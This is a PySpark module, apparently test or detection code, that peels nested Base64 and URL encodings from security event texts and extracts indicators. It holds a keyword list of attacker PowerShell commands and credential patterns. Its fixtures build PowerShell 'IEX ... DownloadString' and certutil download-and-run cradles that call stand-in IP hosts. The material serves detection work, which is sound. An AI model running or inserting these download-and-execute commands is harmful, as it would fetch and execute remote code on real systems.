"""Decoded layers with their provenance: a work list of texts, of which only new ones are decoded again."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame
from pyspark.sql import functions as F

from ..adapters import SEC, security_events
from ..functions import scalars as S
from ..store import stored
from .decode import has_nul, padded, printable, url_decode, wide_text

ROUNDS = 5
NONE = "array<struct<encoding:string,text:string>>"
DIGEST = "^([a-fA-F0-9]{32}|[a-fA-F0-9]{40}|[a-fA-F0-9]{64})$"
# Commands that decoded attacks hold, and what gives credentials away.
ATTACK_COMMANDS = [
    "Invoke-Mimikatz", "Invoke-WMIExec", "Invoke-SMBExec", "Invoke-TheHash", "Invoke-ReflectivePEInjection", "Invoke-Shellcode", "Invoke-TokenManipulation", "Get-Keystrokes", "Get-TimedScreenshot",
    "Get-ClipboardContents", "DownloadString", "DownloadFile", "Net.WebClient", "Invoke-WebRequest", "Start-Process", "New-Object", "IEX", "Invoke-Expression",
]
CREDENTIALS = [r"password\s*[=:]\s*['\"]?\S+", r"\$cred", "get-credential", "convertto-securestring", "-credential"]


def indicators(text: Column) -> list[Column]:
    """urls, ips, commands and credentials of a text."""
    low = F.lower(text)
    every = lambda pattern: F.array_distinct(F.regexp_extract_all(text, F.lit(pattern), F.lit(0)))
    return [
        every(r"https?://[^\s'\"<>]+").alias("urls"), every(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").alias("ips"),
        F.filter(F.array(*map(F.lit, ATTACK_COMMANDS)), lambda w: low.contains(F.lower(w))).alias("commands"), low.rlike("|".join(f"(?:{p})" for p in CREDENTIALS)).alias("credentials"),
    ]


def decodings(text: Column) -> Column:
    """(encoding, text) of what a text hides: each run of base64 that is text, and the text without its URL escapes."""

    def run(r: Column) -> Column:
        wide = lambda raw: F.struct(F.lit("Base64 UTF-16LE").alias("encoding"), wide_text(raw).alias("text"))
        bare = lambda raw: F.struct(F.lit("Base64 UTF-8").alias("encoding"), F.when(F.is_valid_utf8(raw.cast("string")), raw.cast("string")).alias("text"))
        return S.let(F.try_to_binary(S.let(r, padded), F.lit("base64")), lambda raw: F.when(has_nul(raw), wide(raw)).otherwise(bare(raw)))

    runs = F.filter(F.array_distinct(F.regexp_extract_all(text, F.lit("[A-Za-z0-9+/]{8,}={0,2}"), F.lit(0))), lambda r: ~r.rlike(DIGEST) & (F.length(r) % 4 == 0))
    inner = F.filter(F.transform(runs, run), lambda x: F.coalesce((F.length(x["text"]) > 0) & (printable(x["text"]) == 1), F.lit(False)))
    inner = F.when(text.rlike("[A-Za-z0-9+/]{8}"), inner).otherwise(F.array().cast(NONE))  # most texts have no run at all
    plain = F.when(text.rlike("%[0-9A-Fa-f]{2}"), F.array(F.struct(F.lit("URL").alias("encoding"), url_decode(text).alias("text")))).otherwise(F.array().cast(NONE))
    return F.filter(F.concat(inner, plain), lambda x: x["text"] != text)


def layers(seeds: DataFrame, rounds: int = ROUNDS) -> DataFrame:
    """(id, parent_id, source, depth, chain, text) of the texts of ``seeds`` (source, text) and of all that they hide.

    The id is the digest of the text; each text is there once, by its shortest way from a seed (of equal ones the least chain, then
    the least parent). A round decodes only texts that no round before had, ``rounds`` at most.
    """
    own = seeds.where("text <> ''").groupBy("text").agg(F.min("source").alias("source"))
    new = stored(own.select(F.md5("text").alias("id"), F.lit(None).cast("string").alias("parent_id"), "source", F.lit(0).alias("depth"), F.lit("").alias("chain"), "text"))
    known = new
    for depth in range(1, rounds + 1):
        step = new.select("id", "source", "chain", F.explode(decodings(F.col("text"))).alias("d"))
        step = step.select(F.md5("d.text").alias("id"), F.struct(F.concat_ws(" > ", F.nullif("chain", F.lit("")), "d.encoding").alias("chain"), F.col("id").alias("parent_id"), "source").alias("way"), F.col("d.text").alias("text"))
        first = step.groupBy("id").agg(F.min("way").alias("way"), F.first("text").alias("text"))
        new = stored(first.join(known.select("id"), "id", "left_anti").select("id", "way.parent_id", "way.source", F.lit(depth).alias("depth"), "way.chain", "text"))
        if new.isEmpty():
            break
        known = known.unionByName(new)
    return known


def hidden_commands(ev: DataFrame) -> DataFrame:
    """Texts made from the test events: of four that share a command one has it bare, the others below one to three layers."""
    group = (F.col("row_id") - F.col("row_id") % 4).cast("string")
    plain = F.concat(F.lit("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/"), group, F.lit("') password: hunter"))
    bare = lambda c: F.regexp_replace(F.base64(F.encode(c, "UTF-8")), r"\s", "")
    one = F.concat(F.lit("run "), bare(plain))
    two = F.concat(F.lit("q="), F.replace(F.url_encode(one), F.lit("+"), F.lit("%20")))
    three = F.concat(F.lit("x "), bare(two))
    text = F.element_at(F.array(plain, one, two, three), (F.col("row_id") % 4 + 1).cast("int"))
    return ev.select(F.concat(F.lit("field"), (F.col("row_id") % 3).cast("string")).alias("source"), text.alias("text"))


def with_indicators(found: DataFrame) -> DataFrame:
    join = lambda c: F.array_join(c, ",").alias(c)
    return found.select("*", *indicators(F.col("text"))).select("id", "parent_id", F.col("depth").cast("long").alias("depth"), "chain", "text", join("urls"), join("ips"), join("commands"), "credentials")


# what the texts above hide, written out: four seeds and the layer between the second and the third
_FIELDS = ", ".join(f"max(CASE WHEN row_id % 4 = {i} THEN 'field' || row_id % 3 END) AS f{i}" for i in range(4))
_T = (
    f"{SEC}, p AS (SELECT row_id, 'IEX (New-Object Net.WebClient).DownloadString(''http://198.51.100.7/' || (row_id - row_id % 4) || ''') password: hunter' AS t0 FROM sec), "
    "q AS (SELECT *, 'run ' || to_base64(encode(t0)) AS t1 FROM p), r AS (SELECT *, 'q=' || url_encode(t1) AS t2 FROM q), s AS (SELECT *, 'x ' || to_base64(encode(t2)) AS t3 FROM r), "
    f"g AS (SELECT row_id - row_id % 4 AS g, any_value(t0) AS t0, any_value(t1) AS t1, any_value(t2) AS t2, any_value(t3) AS t3, bool_or(row_id % 4 = 0) AS s0, bool_or(row_id % 4 = 1) AS s1, bool_or(row_id % 4 = 2) AS s2, bool_or(row_id % 4 = 3) AS s3, {_FIELDS} FROM s GROUP BY 1), "
    "w AS (SELECT t3 AS t, NULL AS up, 0 AS depth, '' AS chain, f3 AS source FROM g WHERE s3 "
    "UNION ALL SELECT t2, CASE WHEN NOT s2 THEN t3 END, CASE WHEN s2 THEN 0 ELSE 1 END, CASE WHEN s2 THEN '' ELSE 'Base64 UTF-8' END, coalesce(f2, f3) FROM g WHERE s2 OR s3 "
    "UNION ALL SELECT 'q=' || t1, t2, CASE WHEN s2 THEN 1 ELSE 2 END, CASE WHEN s2 THEN 'URL' ELSE 'Base64 UTF-8 > URL' END, coalesce(f2, f3) FROM g WHERE s2 OR s3 "
    "UNION ALL SELECT t1, NULL, 0, '', f1 FROM g WHERE s1 "
    "UNION ALL SELECT t0, CASE WHEN s0 THEN NULL WHEN s1 THEN t1 ELSE 'q=' || t1 END, CASE WHEN s0 THEN 0 WHEN s1 THEN 1 WHEN s2 THEN 2 ELSE 3 END, CASE WHEN s0 THEN '' WHEN s1 THEN 'Base64 UTF-8' WHEN s2 THEN 'URL > Base64 UTF-8' ELSE 'Base64 UTF-8 > URL > Base64 UTF-8' END, coalesce(f0, f1, f2, f3) FROM g)"
)
_SHOWN = "starts_with(t, 'IEX')"
_COMMANDS = ", ".join(f"'{c}'" for c in ATTACK_COMMANDS)

QUERIES = {
    "nested_decode": lambda s, d: with_indicators(layers(hidden_commands(security_events(s, d)))),
    "union_decoded": lambda s, d: layers(hidden_commands(security_events(s, d))).where("depth > 0").groupBy("source", "chain").agg(F.count("*").alias("n"), F.min("id").alias("first")),
    "decoded_indicators": lambda s, d: security_events(s, d).select("row_id", *indicators(F.concat_ws(" ", "command_line", "source_ip"))).select("row_id", *[F.array_join(c, ",").alias(c) for c in ("urls", "ips", "commands")], "credentials"),
}
_ROWS = f"x AS (SELECT md5(t) AS id, md5(up) AS parent_id, CAST(depth AS BIGINT) AS depth, chain, t AS text, CASE WHEN {_SHOWN} THEN regexp_extract(t, 'http[^'']*') ELSE '' END AS urls, CASE WHEN {_SHOWN} THEN '198.51.100.7' ELSE '' END AS ips, CASE WHEN {_SHOWN} THEN 'DownloadString,Net.WebClient,New-Object,IEX' ELSE '' END AS commands, {_SHOWN} AS credentials FROM w)"
ORACLES = {
    "nested_decode": f"WITH {_T}, {_ROWS} SELECT * FROM x",
    "union_decoded": f"WITH {_T} SELECT source, chain, count(*) AS n, min(md5(t)) AS first FROM w WHERE depth > 0 GROUP BY 1, 2",
    "decoded_indicators": f"WITH {SEC} SELECT row_id, array_to_string(list_distinct(regexp_extract_all(command_line, 'https?://[^\\s''\"<>]+')), ',') AS urls, CASE command_line WHEN 'certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe' THEN '198.51.100.7,' WHEN 'powershell -c IEX(New-Object Net.WebClient).DownloadString(''http://203.0.113.9/p'')' THEN '203.0.113.9,' ELSE '' END || source_ip AS ips, "
    f"array_to_string(list_filter([{_COMMANDS}], lambda w: contains(lower(command_line), lower(w))), ',') AS commands, false AS credentials FROM sec",
}
